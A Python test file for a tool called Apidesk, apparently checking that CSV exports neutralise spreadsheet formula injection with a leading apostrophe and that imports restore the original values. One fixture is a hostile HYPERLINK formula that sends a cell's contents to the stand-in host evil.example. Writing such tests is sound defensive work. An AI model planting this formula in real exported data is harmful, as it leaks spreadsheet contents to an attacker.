"""CSV that Apidesk writes is safe to open in a spreadsheet and still imports as it was:
a cell that would run as a formula gets an apostrophe, which reading takes off again."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
from hypothesis import given
from hypothesis import strategies as st
from support.server import LiveServer, ServiceRef, cli, create_service

from apidesk.domain.bulk.records import from_spreadsheet_cell, spreadsheet_cell

V = {"api-version": "2024-05-01"}
FORMULA_STARTS = set("=+-@\t\r")


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab ")) | st.text())
def test_every_value_survives_the_round_trip_and_never_starts_a_formula(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert from_spreadsheet_cell(cell) == value
    assert cell[:1] not in FORMULA_STARTS


def test_names_with_a_leading_apostrophe_are_left_as_they_are() -> None:
    assert spreadsheet_cell("'t Hooft") == "'t Hooft"
    assert from_spreadsheet_cell("'t Hooft") == "'t Hooft"


def test_a_formula_in_a_name_is_exported_as_text_and_imported_as_it_was(
    server: LiveServer, service: ServiceRef, http: httpx.Client, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    http.put(
        service.url("/users/eve"),
        params=V,
        json={"properties": {"email": "eve@example.com", "firstName": formula, "lastName": "-1+1"}},
    ).raise_for_status()
    dump = tmp_path / "users.csv"
    eve_only = ("--filter", "name eq 'eve'")
    done = cli(server.env, "users", "export", "-s", service.name, *eve_only, "--output", str(dump))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(dump.read_text())))
    assert rows[0]["firstName"] == "'" + formula
    assert rows[0]["lastName"] == "'-1+1"

    target = create_service(http)
    loaded = cli(server.env, "users", "import", str(dump), "-s", target.name)
    assert loaded.returncode == 0, loaded.stderr
    user = http.get(target.url("/users/eve"), params=V).json()["properties"]
    assert (user["firstName"], user["lastName"]) == (formula, "-1+1")


def test_a_resumed_import_keeps_its_report_entries_as_they_were_written() -> None:
    from apidesk.domain.bulk import writing
    from apidesk.domain.bulk.importer import RowError

    entry = writing.error_line("csv", "=people.csv", RowError(3, "note", "-1 is not a note"))
    report = (writing.error_header("csv") + entry).encode()
    assert "'=people.csv" in entry and "'-1 is not a note" in entry
    for _ in range(3):  # resumed again and again
        report = writing.error_lines_up_to("csv", report, 3).encode()
    assert report.decode() == writing.error_header("csv") + entry
